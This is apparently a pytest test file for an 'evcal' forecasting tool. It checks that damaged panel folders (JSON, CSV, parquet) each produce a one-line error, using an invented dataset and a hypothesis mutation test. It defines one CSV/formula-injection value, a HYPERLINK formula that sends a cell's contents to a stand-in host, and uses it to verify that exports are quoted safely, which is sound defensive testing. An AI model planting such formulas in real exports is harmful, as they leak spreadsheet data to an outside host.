"""Panel folders: checked when loaded; a damaged one is one line naming the file, exit 2, never a plan.

The panel here is fitted from a synthetic long file with a known truth,
invented for the test (Fernhollow products: a seasonal wave, noise, one
series too short to fit); the damaging edits are the issue's cases (a key of
panel.json null, of the wrong type, the frequency swapped; a table emptied,
a column dropped, a bad number) and a hypothesis property test over many
more, in the manner of tests/test_model_folder.py.
"""

from __future__ import annotations

import json
import shutil
import tempfile
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, note, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from evcal.cli import app
from evcal.errors import ModelError
from evcal.panel import load_panel

runner = CliRunner()

CAL = """
name: Fernhollow panel folder test (invented)
events:
  - name: easter-run
    when: {easter: -3}
    length: 5
  - name: autumn-sale
    when: {dates: [{start: 2021-10-01, end: 2021-10-07}, {start: 2022-10-06, end: 2022-10-12},
                   {start: 2023-10-05, end: 2023-10-11}]}
"""
#: a product code that a spreadsheet would run as a formula (issue 13, formula injection)
HOSTILE = '=HYPERLINK("http://x.example/?q="&A1,"click")'


def _long() -> pd.DataFrame:
    # invented weekly sales: a seasonal wave and noise for three products, plus one product with
    # only ten weeks (too short to fit: a skipped series, listed in skipped.csv)
    rng = np.random.default_rng(11)
    dates = pd.date_range("2021-01-03", periods=156, freq="W-SUN")
    t = np.arange(len(dates))
    frames = []
    for i, product in enumerate(["P0", HOSTILE, "-P2"]):
        y = 40 * (i + 1) * np.exp(0.3 * np.sin(2 * np.pi * t / 52.18 + i) + rng.normal(0, 0.05, len(t)))
        frames.append(pd.DataFrame({"store": "S1", "product": product, "date": dates, "value": y.round(1)}))
    frames.append(pd.DataFrame({"store": "S1", "product": "P9", "date": dates[-10:], "value": 5.0}))
    return pd.concat(frames, ignore_index=True)


@pytest.fixture(scope="module")
def panel(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("panelfolder")
    hist = root / "long.csv"
    _long().to_csv(hist, index=False)
    (root / "cal.yaml").write_text(CAL, encoding="utf-8")
    out = root / "model"
    res = runner.invoke(app, ["fit", str(hist), "-c", str(root / "cal.yaml"), "--out", str(out),
                              "--series-col", "store", "--series-col", "product", "--errors", "ols"])
    assert res.exit_code == 0, res.output
    return out


def _copy(src: Path, dst: Path) -> Path:
    shutil.copytree(src, dst)
    return dst


def _one_line(res: Any, *needles: str) -> str:
    assert res.exit_code == 2, res.output
    assert "Traceback" not in res.output
    lines = [ln for ln in res.output.splitlines() if ln.strip()]
    assert len(lines) == 1, res.output
    for n in needles:
        assert n in lines[0], lines[0]
    return lines[0]


def _cli_refuses(folder: Path, tmp: Path, *needles: str) -> None:
    """`evcal show` and `evcal plan` both stop with one line naming the file; no plan is written."""
    out = tmp / "plan.csv"
    for args in (["show", str(folder)],
                 ["plan", str(folder), "--from", "2024-01-01", "--to", "2024-06-30", "--sims", "0",
                  "--out", str(out)]):
        _one_line(runner.invoke(app, args), *needles)
    assert not out.exists()


def _edit_json(folder: Path, edit: Any) -> None:
    path = folder / "panel.json"
    d = json.loads(path.read_text())
    edit(d)
    path.write_text(json.dumps(d))


# ------------------------------------------------------------------ a valid folder


def test_valid_panel_loads_and_plans(panel: Path, tmp_path: Path) -> None:
    loaded = load_panel(panel)
    assert loaded.settings["freq"] == "W-SUN" and loaded.key_cols == ["store", "product"]
    assert sorted(loaded.series["status"]) == ["fitted", "fitted", "fitted", "skipped"]
    assert list(loaded.skipped["product"]) == ["P9"]
    res = runner.invoke(app, ["plan", str(panel), "--from", "2024-01-01", "--to", "2024-03-31", "--sims", "0",
                              "--out", str(tmp_path / "plan.csv")])
    assert res.exit_code == 0, res.output


def test_panel_csvs_are_formula_safe_and_read_back(panel: Path) -> None:
    # OWASP CSV-injection guidance: a text cell starting with =, +, -, @ gets a leading quote on disk
    for name in ("series.csv", "lifts.csv", "occurrences.csv", "profile.csv"):
        raw = pd.read_csv(panel / name, dtype=str, keep_default_na=False)
        assert ("'" + HOSTILE) in set(raw["product"]), name
        assert "'-P2" in set(raw["product"]), name
        assert not raw["product"].str.startswith(("=", "-", "+", "@")).any(), name
    loaded = load_panel(panel)
    for table in (loaded.series, loaded.lifts, loaded.occurrences, loaded.profile):
        assert {HOSTILE, "-P2", "P0"} <= set(table["product"])
    # the series is found by its own key and rebuilt from fitted.parquet (written unquoted)
    key = loaded.find({"store": "S1", "product": HOSTILE})
    assert len(loaded.history(key).values) == 156


def test_panel_json_non_finite_number_is_written_as_a_string(panel: Path, tmp_path: Path) -> None:
    # the convention of model.json (evcal.store.values.json_safe): "NaN", never a bare NaN token
    loaded = load_panel(panel)
    loaded.settings["groups"][0]["trend_origin"] = float("nan")
    folder = tmp_path / "p"
    loaded.save(folder)
    text = (folder / "panel.json").read_text()
    assert '"trend_origin": "NaN"' in text
    json.loads(text, parse_constant=lambda c: pytest.fail(f"bare {c}"))
    # a group's trend origin must be finite: read back, it is refused by name
    with pytest.raises(ModelError, match=r"panel\.json: groups\[0\]\.trend_origin: \"NaN\" is not a finite"):
        load_panel(folder)


# ------------------------------------------------------------------ a folder written by 0.1 (issue 14)

#: a panel folder written by evcal 0.1.0 before the one folder format (tests/corpus/v0_1/make.py)
V01 = Path(__file__).resolve().parent / "corpus" / "v0_1" / "panel"


def test_panel_written_by_0_1_loads_and_is_written_back_byte_for_byte(tmp_path: Path) -> None:
    old = load_panel(V01)
    assert old.key_cols == ["store", "product"] and set(old.series["product"]) == {"P1", "-P2"}
    assert set(old.lifts["identifiable"]) <= {"yes", "weak", "no"}  # True/False read as yes/no
    old.save(tmp_path / "p")
    for name in ("panel.json", "series.csv", "lifts.csv", "pooling.csv", "occurrences.csv", "profile.csv",
                 "skipped.csv"):
        want = (V01 / name).read_bytes()
        if name == "lifts.csv":  # identifiable is written as yes/no since it has three values (issue 15)
            want = want.replace(b',"True",', b',"yes",').replace(b',"False",', b',"no",')
        assert (tmp_path / "p" / name).read_bytes() == want, name
    new = load_panel(tmp_path / "p")
    for name in ("series", "lifts", "pooling", "occurrences", "profile", "skipped", "coefficients"):
        pd.testing.assert_frame_equal(getattr(new, name), getattr(old, name), check_exact=True)
    with pytest.raises(ModelError, match=r"a single-series model folder \(model\.json\), not a panel one"):
        load_panel(V01.parent / "model")


# ------------------------------------------------------------------ the cases


@pytest.mark.parametrize(("key", "value", "needle"), [
    ("freq", None, "freq"),
    ("keys", None, "keys"),
    ("options", None, "options"),
    ("calendar_text", None, "calendar_text"),
    ("keys", "store", "keys"),
    ("counts", [3, 3], "counts"),
    ("label", 1, "label"),
    ("format_version", 2, "format_version 2"),
    ("calendar_text", "events: [", "calendar_text"),
])
def test_damaged_panel_json_is_one_line(panel: Path, tmp_path: Path, key: str, value: Any,
                                        needle: str) -> None:
    folder = _copy(panel, tmp_path / "m")
    _edit_json(folder, lambda d: d.__setitem__(key, value))
    _cli_refuses(folder, tmp_path, "panel.json", needle)


@pytest.mark.parametrize("freq", ["D", "M", "W-SAT", "Q-DEC", "fortnightly"])
def test_swapped_freq_is_one_line(panel: Path, tmp_path: Path, freq: str) -> None:
    # freq and design.freq both edited, so only the stored dates and tables can tell
    folder = _copy(panel, tmp_path / "m")

    def swap(d: dict) -> None:
        d["freq"] = freq
        d["design"]["freq"] = freq

    _edit_json(folder, swap)
    line = _one_line(runner.invoke(app, ["show", str(folder)]))
    assert "panel.json" in line or "profile.csv" in line, line
    _cli_refuses(folder, tmp_path, line.split(": ")[1][:10])


@pytest.mark.parametrize(("name", "edit", "needle"), [
    ("series.csv", "empty", "the file is empty"),
    ("lifts.csv", "empty", "the file is empty"),
    ("profile.csv", "empty", "the file is empty"),
    ("skipped.csv", "empty", "the file is empty"),
    ("pooling.csv", "empty", "the file is empty"),
    ("occurrences.csv", "empty", "the file is empty"),
    ("lifts.csv", ("drop", "lift_pct"), "lift_pct"),
    ("series.csv", ("drop", "transform"), "transform"),
    ("profile.csv", ("drop", "product"), "product"),
    ("profile.csv", ("cell", "index"), "column index"),
    ("series.csv", ("cell", "smear"), "column smear"),
    ("lifts.csv", ("cell", "low_pct"), "column low_pct"),
    ("occurrences.csv", ("cell", "added_units"), "column added_units"),
    ("series.csv", ("cell", "transform"), "column transform"),
    ("lifts.csv", "last row", "row(s)"),
    ("profile.csv", "last row", "row(s)"),
])
def test_damaged_table_is_one_line(panel: Path, tmp_path: Path, name: str, edit: Any, needle: str) -> None:
    folder = _copy(panel, tmp_path / "m")
    _apply_csv(folder, name, edit)
    _cli_refuses(folder, tmp_path, name, needle)


@pytest.mark.parametrize(("name", "edit"), [
    ("fitted.parquet", "garbage"), ("coefficients.parquet", "garbage"),
    ("fitted.parquet", ("drop", "actual")), ("coefficients.parquet", ("drop", "store")),
])
def test_damaged_parquet_is_one_line(panel: Path, tmp_path: Path, name: str, edit: Any) -> None:
    folder = _copy(panel, tmp_path / "m")
    _apply_parquet(folder, name, edit)
    _cli_refuses(folder, tmp_path, name)


# ------------------------------------------------------------------ edits


BAD_CELL = {"event": "no-such-event", "start": "someday", "identifiable": "maybe", "status": "maybe",
            "transform": "maybe", "kind": "maybe", "store": "no-such-store", "product": "no-such-product",
            "reason": ""}


def _apply_csv(folder: Path, name: str, edit: Any) -> None:
    path = folder / name
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    if edit == "empty":
        path.write_text("")
        return
    if edit == "header":
        frame = frame.iloc[:0]
    elif edit == "last row":
        frame = frame.iloc[:-1]
    elif edit == "first row twice":
        frame = pd.concat([frame.iloc[:1], frame], ignore_index=True)
    elif edit[0] == "drop":
        frame = frame.drop(columns=[edit[1]])
    elif edit[0] == "cell":
        col, row = edit[1], (edit[2] if len(edit) > 2 else 0)
        frame.iloc[row, frame.columns.get_loc(col)] = BAD_CELL.get(col, "lots")
    frame.to_csv(path, index=False)


def _apply_parquet(folder: Path, name: str, edit: Any) -> None:
    path = folder / name
    if edit == "garbage":
        path.write_bytes(b"PAR1 not really parquet")
        return
    frame = pd.read_parquet(path).drop(columns=[edit[1]])
    frame.to_parquet(path, index=False)


# ------------------------------------------------------------------ a property test

# keys where null is a legitimate value (absent), so a null there is not damage
NULL_OK = ("level", "group_col", "options.arima_order", "hac_lags", ".end", ".decay")
# keys a folder written before they existed lacks: dropping one leaves a valid older folder
OPTIONAL = ("design.weekday_weights",)
# free-form lists and maps: their length and entries say nothing the reader can check
FREE = ("groups.0.notes", "groups.0.status", "groups.0.fitted_columns", "events", "design.event_theta",
        "calendar_text", "design.interventions")


def _paths(obj: Any, prefix: tuple = ()) -> list[tuple[tuple, Any]]:
    out = []
    if isinstance(obj, dict):
        for k, v in obj.items():
            out.append(((*prefix, k), v))
            out += _paths(v, (*prefix, k))
    elif isinstance(obj, list):
        for i, v in enumerate(obj[:3]):
            out.append(((*prefix, i), v))
            out += _paths(v, (*prefix, i))
    return out


def _dotted(path: tuple) -> str:
    return ".".join(str(p) for p in path)


def _json_mutations(d: dict) -> list[tuple[str, tuple, Any]]:
    """Every damaging edit of panel.json this test knows: (kind, key path, new value or marker)."""
    muts: list[tuple[str, tuple, Any]] = []
    for path, value in _paths(d):
        key = _dotted(path)
        free = any(key == f or key.startswith(f + ".") for f in FREE)
        parent_free = len(path) > 1 and any(_dotted(path[:-1]).startswith(f) for f in FREE)
        if value is not None and not any(s in key for s in NULL_OK) and not parent_free:
            muts.append(("null", path, None))
        if isinstance(value, bool):
            muts.append(("wrong type", path, "yes"))
        elif isinstance(value, int | float):
            muts.append(("wrong type", path, str(value)))
            muts.append(("non-finite", path, "NaN"))
            muts.append(("non-finite", path, "-Infinity"))
        elif isinstance(value, str) and not parent_free:
            muts.append(("wrong type", path, 12345))
        elif isinstance(value, list):
            muts.append(("wrong type", path, {}))
            if value and isinstance(path[-1], str) and not free:
                muts.append(("shrink", path, "shrink"))
                muts.append(("grow", path, "grow"))
        elif isinstance(value, dict):
            muts.append(("wrong type", path, []))
        if isinstance(path[-1], str) and not parent_free and key not in OPTIONAL:
            muts.append(("drop key", path, "drop"))
    for freq in ("D", "M", "W-SAT", "Q-DEC", "W-XYZ"):
        muts.append(("swap freq", ("freq",), freq))
        muts.append(("swap both freqs", ("freq",), freq))
    return muts


CSV_EDITS = {
    "series.csv": (("store", "status", "transform", "smear", "trend_origin", "start"), True),
    "lifts.csv": (("product", "event", "lift_pct", "identifiable", "kind"), True),
    "occurrences.csv": (("store", "event", "start", "added_units"), False),
    "profile.csv": (("product", "period", "index"), True),
    "skipped.csv": (("product", "reason"), True),
    "pooling.csv": (("event", "tau", "series"), False),
}


def _csv_mutations() -> list[tuple[str, str, Any]]:
    muts: list[tuple[str, str, Any]] = []
    for name, (cols, counted) in CSV_EDITS.items():
        muts.append(("empty file", name, "empty"))
        for col in cols:
            muts.append(("drop column", name, ("drop", col)))
            muts.append(("bad cell", name, ("cell", col, 0)))
        if counted:  # row counts of these tables follow series.csv
            muts += [("header only", name, "header"), ("drop last row", name, "last row"),
                     ("duplicate first row", name, "first row twice")]
    return muts


def _apply_json(folder: Path, kind: str, path: tuple, value: Any) -> None:
    def edit(d: dict) -> None:
        parent = d
        for p in path[:-1]:
            parent = parent[p]
        last = path[-1]
        if kind == "drop key":
            del parent[last]
        elif kind == "shrink":
            parent[last] = parent[last][:-1]
        elif kind == "grow":
            parent[last] = [*parent[last], parent[last][-1]]
        elif kind == "swap both freqs":
            d["freq"] = d["design"]["freq"] = value
        else:
            parent[last] = value

    _edit_json(folder, edit)


class Mutations(list):
    """The damaging edits (a short repr keeps hypothesis' failure report readable)."""

    def __repr__(self) -> str:
        return f"<{len(self)} mutations>"


@pytest.fixture(scope="module")
def mutations(panel: Path) -> Mutations:
    d = json.loads((panel / "panel.json").read_text())
    out = Mutations((k, p, v, "panel.json") for k, p, v in _json_mutations(d))
    out += [(k, w, v, w) for k, w, v in _csv_mutations()]
    out += [("parquet", n, e, n) for n in ("fitted.parquet", "coefficients.parquet")
            for e in ("garbage", ("drop", "store"), ("drop", "product"))]
    out += [("parquet", "fitted.parquet", ("drop", c), "fitted.parquet") for c in ("date", "fitted")]
    return out


def test_enough_distinct_mutations(mutations: list) -> None:
    kinds = {m[0] for m in mutations}
    assert len(mutations) > 250
    assert {"null", "wrong type", "non-finite", "drop key", "shrink", "grow", "swap freq", "empty file",
            "drop column", "bad cell", "drop last row", "parquet"} <= kinds


@settings(max_examples=150, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(pick=st.integers(min_value=0, max_value=10**6), cli=st.integers(min_value=0, max_value=4))
def test_damaged_panel_folder_is_one_line(panel: Path, mutations: list, pick: int, cli: int) -> None:
    kind, where, value, file = mutations[pick % len(mutations)]
    note(f"{kind} {where!r} -> {value!r} in {file}")
    with tempfile.TemporaryDirectory() as tmp:
        folder = _copy(panel, Path(tmp) / "m")
        if file == "panel.json":
            _apply_json(folder, kind, where, value)
        elif kind == "parquet":
            _apply_parquet(folder, where, value)
        else:
            _apply_csv(folder, where, value)
        with pytest.raises(ModelError) as err:
            load_panel(folder)
        assert len(err.value.problems) == 1, err.value.problems
        line = err.value.problems[0]
        assert file in line, (kind, where, line)
        if file == "panel.json" and not kind.startswith("swap") and isinstance(where[0], str):
            assert str(where[0]) in line, (kind, where, line)
        if cli == 0:  # through the real commands too (one example in five, to keep the run short)
            _cli_refuses(folder, Path(tmp), file)
